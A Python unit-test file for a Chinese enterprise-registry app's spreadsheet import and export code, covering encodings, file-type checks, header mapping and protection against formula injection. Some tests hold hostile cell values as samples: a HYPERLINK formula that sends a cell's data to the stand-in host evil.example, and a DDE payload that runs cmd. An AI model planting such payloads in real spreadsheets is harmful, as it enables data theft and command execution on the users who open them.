"""Unit tests for xcapp.registry.tabular (pure; no app fixtures)."""
import datetime as dt
import io
import random
import zipfile

import openpyxl
import pytest

from xcapp.core.text import neutralize
from xcapp.registry.tabular import (
    MAX_BYTES,
    CellProblem,
    Column,
    TableError,
    cell_problems,
    map_headers,
    read_table,
    records,
    write_csv,
    write_xlsx,
)
from xcapp.registry.validation import make_uscc, validate_uscc

USCC = make_uscc("91411000MA44ABCD1")

COLUMNS = [
    Column("name", "企业名称", ("name", "enterprise_name"), required=True),
    Column("uscc", "统一社会信用代码", ("uscc", "credit_code"), required=True),
    Column("licence_no", "许可证编号", ("licence_no", "license_no", "生产许可证编号"), required=True),
    Column("phone", "联系电话", ("phone",)),
    Column("issue_date", "发证日期", ("issue_date",)),
]


def xlsx_bytes(rows, *, setup=None):
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    if setup:
        setup(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def csv_text(rows):
    return "\r\n".join(",".join(r) for r in rows) + "\r\n"


HEADER = ["企业名称", "统一社会信用代码", "许可证编号", "联系电话", "发证日期"]
ROW1 = ["许昌市某某电缆有限公司", USCC, "豫XK06-001-00123", "0374-1234567", "2023-07-04"]
ROW2 = ["禹州市某某水泥有限公司", make_uscc("91411081MA40000X1"), "豫XK13-014-00012", "13800138000", "2023/7/5"]


# ---------------------------------------------------------------------------
# xlsx
# ---------------------------------------------------------------------------

class TestXlsx:
    def test_basic(self):
        data = xlsx_bytes([HEADER, ROW1, ROW2])
        t = read_table(data, "企业名录.XLSX")
        assert t.headers == HEADER
        assert t.rows == [ROW1, ROW2]
        assert t.row_numbers == [2, 3]
        assert t.problems == [] and cell_problems(t) == []
        assert t.source_format == "xlsx"

    def test_cell_values(self):
        def setup(ws):
            ws["E2"].number_format = "yyyy-mm-dd"
            ws["B3"].number_format = "@"

        data = xlsx_bytes(
            [
                ["名称", "代码", "电话", "数", "日期"],
                ["\u3000 许昌 \u00a0", 411000, 13800138000.0, 2.5, dt.datetime(2023, 7, 4, 0, 0)],
                ["  ", None, "", None, None],   # blank after stripping -> skipped row
                [None, "０３７４", "\t914403001922038216", -3, dt.date(2024, 1, 2)],
            ],
            setup=setup,
        )
        t = read_table(data, "a.xlsx")
        assert t.rows == [
            ["许昌", "411000", "13800138000", "2.5", dt.date(2023, 7, 4)],
            [None, "０３７４", "914403001922038216", "-3", dt.date(2024, 1, 2)],
        ]
        assert t.row_numbers == [2, 4]
        assert t.problems == []  # numeric -3 is a number, not a formula

    def test_leading_empty_rows_and_trailing_empty_columns(self):
        data = xlsx_bytes([[], [None, None], HEADER + [None, None], ROW1 + [None], [], ROW2])
        t = read_table(data, "a.xlsx")
        assert t.headers == HEADER
        assert t.row_numbers == [4, 6]

    def test_formulas_reported_never_evaluated(self):
        def setup(ws):
            ws["A2"] = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'
            ws["D2"] = "=cmd|' /C calc'!A0"
            ws["E3"] = "=TODAY()"

        data = xlsx_bytes([HEADER, ROW1, ROW2], setup=setup)
        t = read_table(data, "a.xlsx")
        probs = cell_problems(t)
        assert [(p.row, p.column) for p in probs] == [(2, "企业名称"), (2, "联系电话"), (3, "发证日期")]
        assert all("公式" in p.message for p in probs)
        assert t.rows[0][0].startswith("=HYPERLINK(")  # raw text kept for display
        assert t.rows[0][3] == "=cmd|' /C calc'!A0"
        assert isinstance(probs[0], tuple) and probs[0] == CellProblem(2, "企业名称", probs[0].message)

    def test_text_cells_looking_like_formulas(self):
        def setup(ws):
            for ref in ("A2", "B2", "C2", "D2"):
                ws[ref].data_type = "s"

        data = xlsx_bytes([["a", "b", "c", "d", "e"], ["+cmd", "@SUM(A1)", "-", "'=literal", "2023-07-04"]])
        t = read_table(data, "a.xlsx")
        assert [(p.row, p.column) for p in t.problems] == [(2, "a"), (2, "b"), (2, "c")]
        assert t.rows[0][3] == "=literal"   # neutralised value: apostrophe removed, not a problem
        assert t.rows[0][4] == "2023-07-04"

    def test_precision_lost_number(self):
        data = xlsx_bytes([["代码"], [914403001922038216.0]])
        t = read_table(data, "a.xlsx")
        assert len(t.problems) == 1 and "15位" in t.problems[0].message

    def test_error_value(self):
        def setup(ws):
            ws["A2"].value = "#N/A"
            ws["A2"].data_type = "e"

        t = read_table(xlsx_bytes([["x"], [None]], setup=setup), "a.xlsx")
        assert "错误值" in t.problems[0].message

    def test_data_without_header(self):
        t = read_table(xlsx_bytes([["a", "b"], ["1", "2", "stray"]]), "a.xlsx")
        assert t.headers == ["a", "b"] and t.rows == [["1", "2"]]
        assert t.problems[0].row == 2 and "没有表头" in t.problems[0].message
        assert "C" in t.problems[0].column

    def test_empty_header_column(self):
        t = read_table(xlsx_bytes([["a", None, "b"], ["1", None, "2"]]), "a.xlsx")
        assert t.headers == ["a", "b"] and t.rows == [["1", "2"]]
        with pytest.raises(TableError, match="表头为空"):
            read_table(xlsx_bytes([["a", None, "b"], ["1", "x", "2"]]), "a.xlsx")

    def test_only_first_sheet(self):
        wb = openpyxl.Workbook()
        wb.active.append(["a"])
        wb.active.append(["1"])
        wb.create_sheet("second").append(["zzz"])
        buf = io.BytesIO()
        wb.save(buf)
        assert read_table(buf.getvalue(), "a.xlsx").headers == ["a"]

    def test_header_only_and_empty(self):
        with pytest.raises(TableError, match="只有表头"):
            read_table(xlsx_bytes([HEADER]), "a.xlsx")
        with pytest.raises(TableError, match="文件为空"):
            read_table(xlsx_bytes([]), "a.xlsx")

    def test_binary_renamed_to_xlsx(self):
        png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 10
        with pytest.raises(TableError, match="文件不是有效的 Excel \\(.xlsx\\) 文件"):
            read_table(png, "photo.xlsx")

    def test_csv_renamed_to_xlsx(self):
        with pytest.raises(TableError, match="文件不是有效的 Excel"):
            read_table(csv_text([HEADER, ROW1]).encode(), "a.xlsx")

    def test_other_zip_renamed_to_xlsx(self):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("[Content_Types].xml", "<Types/>")
            zf.writestr("word/document.xml", "<w:document/>")
        with pytest.raises(TableError, match="文件不是有效的 Excel"):
            read_table(buf.getvalue(), "a.xlsx")

    def test_truncated_workbook(self):
        data = xlsx_bytes([HEADER, ROW1])
        with pytest.raises(TableError, match="文件不是有效的 Excel"):
            read_table(data[: len(data) // 2], "a.xlsx")

    def test_decompression_bomb_guard(self, monkeypatch):
        import xcapp.registry.tabular as tabular

        data = xlsx_bytes([HEADER, ROW1])
        monkeypatch.setattr(tabular, "MAX_XLSX_UNCOMPRESSED", 1000)
        with pytest.raises(TableError, match="解压后过大"):
            read_table(data, "a.xlsx")

    def test_old_xls_or_encrypted(self):
        ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
        with pytest.raises(TableError, match=".xls"):
            read_table(ole, "a.xlsx")

    def test_max_rows(self):
        data = xlsx_bytes([["a"]] + [[str(i)] for i in range(11)])
        assert len(read_table(data, "a.xlsx", max_rows=11).rows) == 11
        with pytest.raises(TableError, match="超过 10 行"):
            read_table(data, "a.xlsx", max_rows=10)


# ---------------------------------------------------------------------------
# Common checks: extension, size, random bytes
# ---------------------------------------------------------------------------

class TestFileChecks:
    @pytest.mark.parametrize("name", ["a.xls", "A.XLS"])
    def test_xls(self, name):
        with pytest.raises(TableError, match="另存为” .xlsx"):
            read_table(b"whatever", name)

    @pytest.mark.parametrize("name", ["a.txt", "a.pdf", "noext", "", "a.xlsx.exe"])
    def test_unsupported_extension(self, name):
        with pytest.raises(TableError, match="不支持的文件类型"):
            read_table(b"a,b\r\n1,2\r\n", name)

    @pytest.mark.parametrize("name", ["a.xlsx", "a.csv"])
    def test_empty_file(self, name):
        with pytest.raises(TableError, match="^文件为空$"):
            read_table(b"", name)

    @pytest.mark.parametrize("name", ["a.xlsx", "a.csv"])
    def test_over_size_limit(self, name):
        data = random.Random(1).randbytes(MAX_BYTES + 1)
        with pytest.raises(TableError, match="文件超过 5 MB"):
            read_table(data, name)
        with pytest.raises(TableError, match="文件超过 1 MB"):
            read_table(b"a" * (1024 * 1024 + 1), name, max_bytes=1024 * 1024)

    def test_5mb_random_bytes_as_xlsx(self):
        data = random.Random(2).randbytes(MAX_BYTES)  # exactly at the limit: size ok, content not
        with pytest.raises(TableError, match="文件不是有效的 Excel"):
            read_table(data, "random.xlsx")

    def test_5mb_random_bytes_as_csv(self):
        data = random.Random(3).randbytes(MAX_BYTES)
        with pytest.raises(TableError, match="二进制|编码无法识别"):
            read_table(data, "random.csv")

    def test_random_bytes_without_nul_as_csv(self):
        rnd = random.Random(4)
        data = bytes(rnd.randrange(1, 256) for _ in range(200_000))
        with pytest.raises(TableError, match="文件编码无法识别：请使用 UTF-8 或 GB18030 编码保存"):
            read_table(data, "random.csv")


# ---------------------------------------------------------------------------
# CSV
# ---------------------------------------------------------------------------

class TestCsv:
    @pytest.mark.parametrize("encode", [
        lambda s: s.encode("utf-8"),
        lambda s: b"\xef\xbb\xbf" + s.encode("utf-8"),
        lambda s: s.encode("gb18030"),
        lambda s: s.encode("gbk"),
    ], ids=["utf8", "utf8-bom", "gb18030", "gbk"])
    def test_encodings(self, encode):
        t = read_table(encode(csv_text([HEADER, ROW1, ROW2])), "a.csv")
        assert t.headers == HEADER
        assert t.rows == [ROW1, ROW2]
        assert t.row_numbers == [2, 3]
        assert t.source_format == "csv"

    def test_gb18030_only_characters(self):
        # 𠀀 (U+20000) and 堃 exist in GB18030 but 𠀀 not in GBK
        text = csv_text([["企业名称"], ["王𠀀堃玥有限公司"]])
        assert read_table(text.encode("gb18030"), "a.csv").rows == [["王𠀀堃玥有限公司"]]

    @pytest.mark.parametrize("order", ["utf8-then-gb", "gb-then-utf8"])
    def test_mixed_encodings(self, order):
        header = csv_text([HEADER]).encode("utf-8")
        row = csv_text([ROW1]).encode("gb18030")
        data = header + row if order == "utf8-then-gb" else header.decode().encode("gb18030") + csv_text([ROW1]).encode()
        with pytest.raises(TableError) as exc:
            read_table(data, "a.csv")
        assert exc.value.message.startswith("文件编码无法识别：请使用 UTF-8 或 GB18030 编码保存")

    def test_large_gb18030_file_not_mistaken_for_mixed(self):
        # GB18030 text can be valid UTF-8 by accident; the mixed-encoding check
        # must not reject a genuine GB18030 file because of that.
        hanzi = [bytes((hi, lo)).decode("gb2312", "ignore") for hi in range(0xB0, 0xF8) for lo in range(0xA1, 0xFF)]
        hanzi = [h for h in hanzi if h]
        rnd = random.Random(5)
        rows = [["企业名称", "地址"]] + [
            ["".join(rnd.choice(hanzi) for _ in range(rnd.randint(1, 6))),
             "".join(rnd.choice(hanzi) for _ in range(rnd.randint(1, 12)))]
            for _ in range(5000)
        ]
        t = read_table(csv_text(rows).encode("gb18030"), "a.csv")
        assert len(t.rows) == 5000

    def test_bom_then_gb18030_line(self):
        data = b"\xef\xbb\xbf" + csv_text([HEADER]).encode() + csv_text([ROW1]).encode("gb18030")
        with pytest.raises(TableError, match="文件编码无法识别"):
            read_table(data, "a.csv")

    def test_utf16(self):
        with pytest.raises(TableError, match="UTF-16"):
            read_table(csv_text([HEADER, ROW1]).encode("utf-16"), "a.csv")

    def test_xlsx_renamed_to_csv(self):
        with pytest.raises(TableError, match="扩展名改为 .xlsx"):
            read_table(xlsx_bytes([HEADER, ROW1]), "a.csv")

    def test_quoted_fields_multiline_and_row_numbers(self):
        text = '企业名称,地址\r\n"A, Ltd","第一行\n第二行"\r\n\r\nB,"x ""y"""\r\n'
        t = read_table(text.encode(), "a.csv")
        assert t.rows == [["A, Ltd", "第一行\n第二行"], ["B", 'x "y"']]
        assert t.row_numbers == [2, 5]

    def test_unbalanced_quotes(self):
        with pytest.raises(TableError, match="CSV 格式错误"):
            read_table('a,b\r\n"x,y\r\n'.encode(), "a.csv")

    def test_stripping_and_empty(self):
        text = "a,b,c\r\n\u3000x\u3000, ,\t13800138000\r\n"
        t = read_table(text.encode(), "a.csv")
        assert t.rows == [["x", None, "13800138000"]]
        assert t.problems == []

    def test_short_rows_padded(self):
        t = read_table("a,b,c\r\n1\r\n".encode(), "a.csv")
        assert t.rows == [["1", None, None]]

    def test_formula_like_values(self):
        rows = [
            ["名称", "电话", "日期"],
            ['"=HYPERLINK(""http://evil.example"",""x"")"', "+cmd", "2023-07-04"],
            ["\"=cmd|' /C calc'!A0\"", "@SUM(1+1)", "-1"],
            ["\t=1+1", "-", "2023-07-04"],
            ["'=literal", "'+86 13800138000", "'@x"],
        ]
        t = read_table(csv_text(rows).encode("utf-8"), "a.csv")
        assert [(p.row, p.column) for p in cell_problems(t)] == [
            (2, "名称"), (2, "电话"), (3, "名称"), (3, "电话"), (3, "日期"), (4, "名称"), (4, "电话"),
        ]
        assert all(p.message for p in t.problems)
        assert "留空" in t.problems[-1].message  # a lone "-" gets a specific hint
        # apostrophe-neutralised values are literal text: no problem, apostrophe removed
        assert t.rows[3] == ["=literal", "+86 13800138000", "@x"]
        assert t.rows[0][2] == "2023-07-04"

    def test_tab_delimited(self):
        t = read_table("企业名称\t联系电话\r\nA\t0374-1234567\r\n".encode("gb18030"), "a.csv")
        assert t.headers == ["企业名称", "联系电话"] and t.rows == [["A", "0374-1234567"]]

    def test_header_only(self):
        with pytest.raises(TableError, match="只有表头"):
            read_table(csv_text([HEADER]).encode(), "a.csv")
        with pytest.raises(TableError, match="文件为空"):
            read_table(b"\r\n\r\n , \r\n", "a.csv")

    def test_binary_in_csv(self):
        with pytest.raises(TableError, match="二进制"):
            read_table(b"a,b\r\n\x00\x01\x02,3\r\n", "a.csv")


# ---------------------------------------------------------------------------
# Header mapping
# ---------------------------------------------------------------------------

class TestMapHeaders:
    def test_chinese(self):
        assert map_headers(HEADER, COLUMNS) == {
            "name": 0, "uscc": 1, "licence_no": 2, "phone": 3, "issue_date": 4,
        }

    def test_english_aliases_case_spaces_underscores(self):
        headers = ["Name", "USCC", "License No", "PHONE", "issue-date"]
        assert map_headers(headers, COLUMNS) == {
            "name": 0, "uscc": 1, "licence_no": 2, "phone": 3, "issue_date": 4,
        }
        assert map_headers(["name", "credit_code", "licence_no"], COLUMNS)["licence_no"] == 2

    def test_normalised_header_cells(self):
        headers = ["\u3000企业名称 ", "*统一社会信用代码", "生产许可证编号*", "ｐｈｏｎｅ"]
        assert map_headers(headers, COLUMNS) == {"name": 0, "uscc": 1, "licence_no": 2, "phone": 3}

    def test_optional_columns_may_be_absent(self):
        assert map_headers(["企业名称", "统一社会信用代码", "许可证编号"], COLUMNS) == {
            "name": 0, "uscc": 1, "licence_no": 2,
        }

    def test_missing_required(self):
        with pytest.raises(TableError) as exc:
            map_headers(["企业名称", "联系电话"], COLUMNS)
        assert "缺少必填列：统一社会信用代码、许可证编号" in exc.value.message
        assert exc.value.details == ["缺少必填列：统一社会信用代码、许可证编号"]

    def test_unknown_columns(self):
        with pytest.raises(TableError) as exc:
            map_headers(HEADER + ["备注", "法定代表人"], COLUMNS)
        assert "未知列：备注、法定代表人" in exc.value.message

    def test_duplicates(self):
        with pytest.raises(TableError) as exc:
            map_headers(["企业名称", "统一社会信用代码", "许可证编号", "name"], COLUMNS)
        assert "重复的列：企业名称" in exc.value.message

    def test_all_problems_together(self):
        with pytest.raises(TableError) as exc:
            map_headers(["企业名称", "企业名称", "备注", ""], COLUMNS)
        joined = "\n".join(exc.value.details)
        for part in ("缺少必填列", "未知列：备注", "重复的列", "表头为空"):
            assert part in joined

    def test_conflicting_column_definitions(self):
        with pytest.raises(ValueError):
            map_headers(["a"], [Column("a", "名称", ("x",)), Column("b", "别名", ("X",))])

    def test_records(self):
        t = read_table(csv_text([["name", "uscc", "license_no"], ["A", USCC, "豫XK13-014-00012"]]).encode(), "a.csv")
        recs = records(t, COLUMNS)
        assert recs[0].row == 2
        assert recs[0].values == {
            "name": "A", "uscc": USCC, "licence_no": "豫XK13-014-00012", "phone": None, "issue_date": None,
        }
        assert validate_uscc(recs[0].values["uscc"]) == USCC


# ---------------------------------------------------------------------------
# Writing and round trips
# ---------------------------------------------------------------------------

TRICKY = [
    ["=HYPERLINK(\"http://evil.example\",\"x\")", "+86 13800138000", "-", "@SUM(A1)"],
    ["=cmd|' /C calc'!A0", "\tabc", "'=already quoted", "''+two"],
    ["普通, 含逗号", '含"引号"', "多\n行", "'plain apostrophe"],
    ["-1", "2023-07-04", "豫XK13-014-00012", USCC],
]


class TestWrite:
    def test_neutralize(self):
        assert neutralize("=1") == "'=1"
        assert neutralize("'=1") == "''=1"
        assert neutralize("'abc") == "'abc"
        assert neutralize("2023-07-04") == "2023-07-04"
        assert neutralize("") == ""

    def test_csv_format(self):
        data = write_csv(["企业名称", "发证日期", "n"], [["许昌", dt.date(2023, 7, 4), 5], ["=x", None, 1.0]])
        assert data.startswith(b"\xef\xbb\xbf")
        text = data[3:].decode("utf-8")
        assert text == "企业名称,发证日期,n\r\n许昌,2023-07-04,5\r\n'=x,,1\r\n"

    def test_csv_no_cell_starts_with_trigger(self):
        import csv as _csv

        data = write_csv(["a", "b", "c", "d"], TRICKY)
        for row in _csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    def test_xlsx_has_no_formulas(self):
        data = write_xlsx(["a", "b", "c", "d"], TRICKY)
        wb = openpyxl.load_workbook(io.BytesIO(data))
        for row in wb.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_round_trip(self, fmt):
        writer = write_csv if fmt == "csv" else write_xlsx
        headers = ["c1", "c2", "c3", "c4"]
        t = read_table(writer(headers, TRICKY), f"export.{fmt}")
        assert t.headers == headers
        assert t.problems == []
        expected = [list(r) for r in TRICKY]
        expected[1][1] = "abc"  # surrounding whitespace (the tab) is stripped on import
        assert t.rows == expected

    def test_xlsx_round_trip_types(self):
        headers = HEADER
        rows = [ROW1[:4] + [dt.date(2023, 7, 4)], ROW2[:4] + [None]]
        t = read_table(write_xlsx(headers, rows), "x.xlsx")
        assert t.rows == rows
        wb = openpyxl.load_workbook(io.BytesIO(write_xlsx(headers, rows)))
        assert wb.active["E2"].is_date and wb.active["B2"].number_format == "@"

    def test_xlsx_illegal_control_characters_dropped(self):
        t = read_table(write_xlsx(["a"], [["x\x01y\x1f"]]), "x.xlsx")
        assert t.rows == [["xy"]]
